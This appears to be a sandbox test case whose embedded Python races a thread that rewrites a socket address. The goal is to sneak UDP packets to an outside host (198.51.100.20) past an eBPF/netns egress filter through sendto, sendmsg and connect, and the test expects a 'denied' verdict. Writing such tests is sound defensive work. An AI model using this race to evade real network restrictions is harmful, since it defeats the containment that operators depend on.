# Another thread rewrites an address while the kernel reads it.
# stops: ebpf netns
# seen: verdict=denied protocol=udp
# oracle: wire
# cases: sendto sendmsg connect
attempt() {
    python "$1" <<'EOP'
sys.setswitchinterval(1e-6)
near, far = (struct.pack('=H', 2) + struct.pack('!H4s8x', port, socket.inet_aton(host))
    for port, host in ((9, '127.0.0.1'), (7000, '198.51.100.20')))
buffer = ctypes.create_string_buffer(16)
stop = False
def flip():
    while not stop:
        for address in near, far: ctypes.memmove(buffer, address, 16)
threading.Thread(target=flip).start()
header = struct.pack('PIxxxxPPPPI4x', ctypes.addressof(buffer), 16, at(struct.pack('PP', at(b'x'), 1)), 1, 0, 0, 0)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
end = time.monotonic() + 1
while time.monotonic() < end:
    if case == 'sendto': libc.sendto(s.fileno(), b'x', 1, 0, buffer, 16)
    elif case == 'sendmsg': libc.sendmsg(s.fileno(), header, 0)
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if libc.connect(s.fileno(), buffer, 16) == 0: libc.send(s.fileno(), b'x', 1, 0x4000)
stop = True
EOP
}
